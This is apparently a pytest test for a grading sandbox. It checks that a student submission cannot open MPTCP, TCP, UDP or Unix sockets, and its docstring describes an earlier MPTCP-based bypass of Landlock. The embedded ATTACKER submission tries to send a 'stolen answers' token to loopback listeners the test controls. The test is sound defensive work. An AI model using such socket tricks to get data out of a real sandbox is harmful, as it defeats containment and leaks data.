"""No socket of a submission reaches anything outside its child.

Landlock's network rules cover TCP only: before issue 36 a multipath-TCP socket
(IPPROTO_MPTCP) connected out and sent a token while the run's first line said the files
open no TCP connection; UDP was open; and, run as root, a child connected to a root-only
socket in a root-only folder (a docker.sock would be the machine). Now the seccomp filter
refuses socket() of every family (seccomp.py), and the child has a network namespace of its
own besides (identity.py).

One class: the attacker tries MPTCP, TCP, UDP, an abstract Unix socket and a pathname Unix
socket in a folder only the teacher may enter (root's when root runs the checker), each
against a listener this test holds open, and an MPTCP listener of its own. Judged on the side
effects: nothing is accepted or received by any listener, and the correct classmate after it
passes; as root and as an unprivileged teacher.
"""
import os
import socket
import uuid

import pytest

from accounts import USERS, account, unprivileged_unavailable  # noqa: F401
from checking import CORRECT_RELU, blocks, gradebook
from classroom import place, rows_by_file, run_checker, write_file  # noqa: F401

IPPROTO_MPTCP = 262
ATTACKER = """
    import socket
    TOKEN = b"stolen answers"

    def attempt(what, action):
        try:
            action()
            print(what, "done")
        except OSError as exc:
            print(what, "refused:", type(exc).__name__)

    def connect(family, kind, protocol, address):
        with socket.socket(family, kind, protocol) as s:
            s.settimeout(3)
            s.connect(address)
            s.sendall(TOKEN)

    def send_udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(TOKEN, ("127.0.0.1", {udp}))

    def listen_mptcp():
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
            s.bind(("127.0.0.1", 0))
            s.listen(1)

    attempt("mptcp", lambda: connect(socket.AF_INET, socket.SOCK_STREAM, 262, ("127.0.0.1", {tcp})))
    attempt("tcp", lambda: connect(socket.AF_INET, socket.SOCK_STREAM, 0, ("127.0.0.1", {tcp})))
    attempt("udp", send_udp)
    attempt("abstract", lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, 0, {abstract!r}))
    attempt("pathname", lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, 0, {pathname!r}))
    attempt("mptcp listener", listen_mptcp)

    def relu_backward(dout, cache):
        return dout * (cache > 0)
    """


def _listeners(base, user):
    """(the sockets, their addresses): TCP (MPTCP clients fall back to it), UDP, abstract
    Unix, and a pathname Unix socket in a folder only the teacher may enter."""
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    abstract = socket.socket(socket.AF_UNIX)
    abstract_name = "\0tinyadv-test-" + uuid.uuid4().hex
    abstract.bind(abstract_name)
    abstract.listen(8)
    private = base / "private"
    private.mkdir(mode=0o700)
    pathname = socket.socket(socket.AF_UNIX)
    pathname.bind(str(private / "service.sock"))
    pathname.listen(8)
    os.chmod(private / "service.sock", 0o600)
    if user == "unprivileged":
        entry = account()
        for path in (private, private / "service.sock"):
            os.chown(path, entry.pw_uid, entry.pw_gid)
    for s in (tcp, udp, abstract, pathname):
        s.setblocking(False)
    return (tcp, udp, abstract, pathname), dict(
        tcp=tcp.getsockname()[1], udp=udp.getsockname()[1], abstract=abstract_name,
        pathname=str(private / "service.sock"))


def _what_arrived(tcp, udp, abstract, pathname):
    arrived = []
    for name, listener in (("tcp", tcp), ("abstract", abstract), ("pathname", pathname)):
        try:
            connection, _ = listener.accept()
            connection.settimeout(1)
            arrived.append((name, connection.recv(100)))
            connection.close()
        except (BlockingIOError, OSError):
            pass
    try:
        arrived.append(("udp", udp.recv(100)))
    except (BlockingIOError, OSError):
        pass
    return arrived


@pytest.mark.parametrize("user", USERS)
def test_no_socket_reaches_anything_outside(user, place):
    base, tmp, out = place
    listeners, addresses = _listeners(base, user)
    folder = base / "class"
    write_file(folder, "m_network.py", ATTACKER.format(**addresses))
    write_file(folder, "z_correct.py", CORRECT_RELU)
    try:
        done = run_checker(user, [folder, "--timeout", "30", "--report", out / "grades.csv"],
                           base, tmp)
        arrived = _what_arrived(*listeners)
    finally:
        for listener in listeners:
            listener.close()
    assert arrived == [], done.stdout
    assert done.returncode == 0, done.stdout + done.stderr
    assert rows_by_file(gradebook(out / "grades.csv")) == {
        str(folder / name): {"relu_backward": "pass"} for name in ("m_network.py", "z_correct.py")}
    said = blocks(done.stdout)[str(folder / "m_network.py")]
    for what in ("mptcp", "tcp", "udp", "abstract", "pathname", "mptcp listener"):
        assert f"{what} refused:" in said, (what, said)
    # The first line claims what held: no socket of any kind.
    assert "opens no socket (TCP, UDP, MPTCP or Unix)" in done.stdout.splitlines()[0]
